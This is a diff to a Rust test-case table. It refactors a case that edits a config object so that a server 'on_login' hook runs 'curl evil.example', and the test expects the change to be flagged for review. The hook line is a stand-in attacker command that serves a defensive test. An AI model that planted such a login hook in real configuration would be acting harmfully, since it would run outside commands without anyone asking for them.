@@ -494,10 +494,8 @@ const CASES: &[Case] = &[
     (
         "a key changes that nobody knows, and nothing else",
         |it| {
-            it.edit(
-                BOX,
-                &json!({ "server": { "on_login": "curl evil.example" } }),
-            )
+            let key = json!({ "on_login": "curl evil.example" });
+            it.edit(BOX, &json!({ "server": key }));
         },
         &["acme__box uncompiled-field-changed review"],
     ),
